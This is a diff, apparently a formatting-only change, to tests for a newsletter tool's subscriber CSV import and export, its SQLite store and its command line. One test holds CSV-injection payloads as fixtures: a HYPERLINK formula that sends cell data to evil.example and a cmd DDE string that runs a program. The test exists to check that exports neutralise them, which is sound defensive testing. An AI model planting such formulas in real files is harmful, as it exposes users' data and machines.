@@ -61,7 +61,10 @@ test('a CSV with bad rows reports every one with its line, and duplicates and ca
     { email: 'jane@example.org', name: 'Jane Doe', attributes: { organisation: 'NHS Leeds' } },
     { email: 'bob@example.org', attributes: { organisation: 'Council' } },
   ]);
-  expect(parseSubscriberCsv('name,address\nJane,jane@example.org\n').problems[0]).toMatchObject({ line: 1, message: expect.stringContaining('no "email" column') });
+  expect(parseSubscriberCsv('name,address\nJane,jane@example.org\n').problems[0]).toMatchObject({
+    line: 1,
+    message: expect.stringContaining('no "email" column'),
+  });
   expect(parseSubscriberCsv('email,name\n"unclosed,Jane\n').problems[0]!.message).toMatch(/not valid CSV/);
 });
 
@@ -69,17 +72,42 @@ test('the SQLite store migrates on open, imports all-or-nothing and never resubs
   const path = join(dir, 'nested', 'bulletin.db');
   const store = new SqliteSubscriberStore(path);
   expect(store.schemaVersion).toBe(MIGRATIONS.length);
-  const first = await store.importSubscribers('weekly', [{ email: 'a@example.org', name: 'A' }, { email: 'b@example.org' }], { source: 'import:one.csv', at: '2018-05-01T09:00:00.000Z' });
+  const first = await store.importSubscribers(
+    'weekly',
+    [{ email: 'a@example.org', name: 'A' }, { email: 'b@example.org' }],
+    { source: 'import:one.csv', at: '2018-05-01T09:00:00.000Z' },
+  );
   expect(first).toEqual({ added: 2, updated: 0, unchanged: 0, keptOut: 0 });
-  expect(await store.importSubscribers('weekly', [{ email: 'a@example.org', name: 'A' }, { email: 'b@example.org' }], { source: 'import:one.csv' })).toEqual({ added: 0, updated: 0, unchanged: 2, keptOut: 0 });
+  expect(
+    await store.importSubscribers(
+      'weekly',
+      [{ email: 'a@example.org', name: 'A' }, { email: 'b@example.org' }],
+      { source: 'import:one.csv' },
+    ),
+  ).toEqual({ added: 0, updated: 0, unchanged: 2, keptOut: 0 });
 
-  expect(await store.setStatus('b@example.org', 'weekly', 'unsubscribed', { source: 'one-click', at: '2018-05-02T10:00:00.000Z' })).toBe(true);
-  expect(await store.importSubscribers('weekly', [{ email: 'b@example.org', name: 'B' }, { email: 'c@example.org' }], { source: 'import:two.csv' })).toEqual({ added: 1, updated: 0, unchanged: 0, keptOut: 1 });
-  expect((await store.addSubscriber('weekly', { email: 'b@example.org' }, 'subscribed', { source: 'cli' })).status).toBe('unsubscribed');
+  expect(
+    await store.setStatus('b@example.org', 'weekly', 'unsubscribed', {
+      source: 'one-click',
+      at: '2018-05-02T10:00:00.000Z',
+    }),
+  ).toBe(true);
+  expect(
+    await store.importSubscribers(
+      'weekly',
+      [{ email: 'b@example.org', name: 'B' }, { email: 'c@example.org' }],
+      { source: 'import:two.csv' },
+    ),
+  ).toEqual({ added: 1, updated: 0, unchanged: 0, keptOut: 1 });
+  expect(
+    (await store.addSubscriber('weekly', { email: 'b@example.org' }, 'subscribed', { source: 'cli' })).status,
+  ).toBe('unsubscribed');
 
   await store.suppress('c@example.org', 'bounced', { source: 'smtp-bounce' });
   expect(await store.isSuppressed('c@example.org')).toBe(true);
-  expect(await store.importSubscribers('leaders', [{ email: 'c@example.org' }], { source: 'import:three.csv' })).toEqual({ added: 0, updated: 0, unchanged: 0, keptOut: 1 });
+  expect(
+    await store.importSubscribers('leaders', [{ email: 'c@example.org' }], { source: 'import:three.csv' }),
+  ).toEqual({ added: 0, updated: 0, unchanged: 0, keptOut: 1 });
 
   const rows = await all(store.subscribers('weekly'));
   expect(rows.map((r) => [r.email, r.status, r.statusSource])).toEqual([
@@ -110,7 +138,10 @@ test('the SQLite store migrates on open, imports all-or-nothing and never resubs
 
 test('an import that fails midway leaves nothing behind', async () => {
   const store = new SqliteSubscriberStore(join(dir, 'b.db'));
-  const rows = [{ email: 'a@example.org' }, { email: 'b@example.org', attributes: { bad: 1n as unknown as string } }];
+  const rows = [
+    { email: 'a@example.org' },
+    { email: 'b@example.org', attributes: { bad: 1n as unknown as string } },
+  ];
   await expect(store.importSubscribers('weekly', rows, { source: 'import:x.csv' })).rejects.toThrow();
   expect(await store.counts()).toEqual([]);
   await store.close();
@@ -133,20 +164,39 @@ test('bulletin subscribers import, add, remove, list and export from the command
     expect(bad.status).toBe(1);
     expect(bad.stderr).toContain('members.csv:3: "broken" must have exactly one @');
     expect(JSON.parse(bad.stdout)).toMatchObject({ ok: false });
-    expect(JSON.parse(bulletin(['subscribers', 'list', '--json'], site.root).stdout).lists[0].counts.subscribed).toBe(0);
+    expect(
+      JSON.parse(bulletin(['subscribers', 'list', '--json'], site.root).stdout).lists[0].counts.subscribed,
+    ).toBe(0);
 
     writeFileSync(csv, 'email,name\nA@Example.org,Ann\nb@example.org,Bo\n');
-    expect(JSON.parse(bulletin(['subscribers', 'import', csv, '--list', 'weekly', '--json'], site.root).stdout)).toMatchObject({ ok: true, added: 2 });
-    expect(bulletin(['subscribers', 'import', csv, '--list', 'weekyl'], site.root)).toMatchObject({ status: 2, stderr: expect.stringContaining('Did you mean "weekly"?') });
-    expect(bulletin(['subscribers', 'add', 'c@example.org', '--list', 'weekly', '--name', 'Cy'], site.root).status).toBe(0);
+    expect(
+      JSON.parse(bulletin(['subscribers', 'import', csv, '--list', 'weekly', '--json'], site.root).stdout),
+    ).toMatchObject({ ok: true, added: 2 });
+    expect(bulletin(['subscribers', 'import', csv, '--list', 'weekyl'], site.root)).toMatchObject({
+      status: 2,
+      stderr: expect.stringContaining('Did you mean "weekly"?'),
+    });
+    expect(
+      bulletin(['subscribers', 'add', 'c@example.org', '--list', 'weekly', '--name', 'Cy'], site.root).status,
+    ).toBe(0);
     expect(bulletin(['subscribers', 'add', 'bad address', '--list', 'weekly'], site.root).status).toBe(1);
-    expect(bulletin(['subscribers', 'remove', 'a@example.org', '--list', 'weekly'], site.root).status).toBe(0);
-    expect(bulletin(['subscribers', 'import', csv, '--list', 'weekly'], site.root).stderr).toContain('1 left unsubscribed');
+    expect(bulletin(['subscribers', 'remove', 'a@example.org', '--list', 'weekly'], site.root).status).toBe(
+      0,
+    );
+    expect(bulletin(['subscribers', 'import', csv, '--list', 'weekly'], site.root).stderr).toContain(
+      '1 left unsubscribed',
+    );
     const counts = JSON.parse(bulletin(['subscribers', 'list', '--json'], site.root).stdout).lists[0].counts;
     expect(counts).toMatchObject({ subscribed: 2, unsubscribed: 1 });
-    const exported = bulletin(['subscribers', 'export', '--list', 'weekly'], site.root).stdout.trim().split('\n');
+    const exported = bulletin(['subscribers', 'export', '--list', 'weekly'], site.root)
+      .stdout.trim()
+      .split('\n');
     expect(exported[0]).toBe('email,name,list,status,consent_at,consent_source');
-    expect(exported.slice(1).map((l) => l.split(',').slice(0, 4).join(','))).toEqual(['a@example.org,Ann,weekly,unsubscribed', 'b@example.org,Bo,weekly,subscribed', 'c@example.org,Cy,weekly,subscribed']);
+    expect(exported.slice(1).map((l) => l.split(',').slice(0, 4).join(','))).toEqual([
+      'a@example.org,Ann,weekly,unsubscribed',
+      'b@example.org,Bo,weekly,subscribed',
+      'c@example.org,Cy,weekly,subscribed',
+    ]);
     expect(exported[1]).toMatch(/,cli$/);
   } finally {
     site.remove();
@@ -158,23 +208,28 @@ test('export neutralises spreadsheet formulas (OWASP CSV injection), and importi
   try {
     const hostile: [string, string][] = [
       ['f1@example.org', '=HYPERLINK("https://evil.example/?"&A1,"Click for your prize")'],
-      ['f2@example.org', '+1+cmd|\' /C calc\'!A0'],
+      ['f2@example.org', "+1+cmd|' /C calc'!A0"],
       ['f3@example.org', '-2+3'],
       ['f4@example.org', '@SUM(1,2)'],
       ['f5@example.org', '＝1+1'],
       ['f6@example.org', "O'Brien, Ann"],
       ['-news@example.org', 'Addresses too'],
     ];
-    for (const [email, name] of hostile) expect(bulletin(['subscribers', 'add', '--list', 'weekly', '--name', name, '--', email], site.root).status).toBe(0);
+    for (const [email, name] of hostile)
+      expect(
+        bulletin(['subscribers', 'add', '--list', 'weekly', '--name', name, '--', email], site.root).status,
+      ).toBe(0);
     const exported = bulletin(['subscribers', 'export', '--list', 'weekly'], site.root);
     expect(exported.status).toBe(0);
     const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
     const names = new Map(rows.map((r) => [r.email, r.name]));
     // What a spreadsheet stores as text: a leading apostrophe, which Excel and LibreOffice hide.
-    for (const [email, name] of hostile.slice(0, 5)) expect([email, names.get(email)]).toEqual([email, `'${name}`]);
+    for (const [email, name] of hostile.slice(0, 5))
+      expect([email, names.get(email)]).toEqual([email, `'${name}`]);
     expect(names.get("'-news@example.org")).toBe('Addresses too');
     expect(names.get('f6@example.org')).toBe("O'Brien, Ann");
-    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+    for (const row of rows)
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
 
     const file = join(site.root, 'exported.csv');
     writeFileSync(file, exported.stdout);
@@ -194,8 +249,15 @@ test('export neutralises spreadsheet formulas (OWASP CSV injection), and importi
 test('the confirmation count in SQL agrees with mailboxOf for +tags, Gmail dots and googlemail.com', async () => {
   const store = new SqliteSubscriberStore(join(dir, 'count.db'));
   const typed = [
-    'victim@gmail.com', 'v.ictim@gmail.com', 'victim+x@googlemail.com', 'vic.tim@googlemail.com',
-    'victim@example.org', 'v.ictim@example.org', 'victim+a@example.org', 'victim2@gmail.com', 'wictim@gmail.com',
+    'victim@gmail.com',
+    'v.ictim@gmail.com',
+    'victim+x@googlemail.com',
+    'vic.tim@googlemail.com',
+    'victim@example.org',
+    'v.ictim@example.org',
+    'victim+a@example.org',
+    'victim2@gmail.com',
+    'wictim@gmail.com',
   ];
   for (const email of typed) await store.requestSubscription({ email }, ['weekly'], { source: 'test' });
   const since = new Date(Date.now() - 60_000);
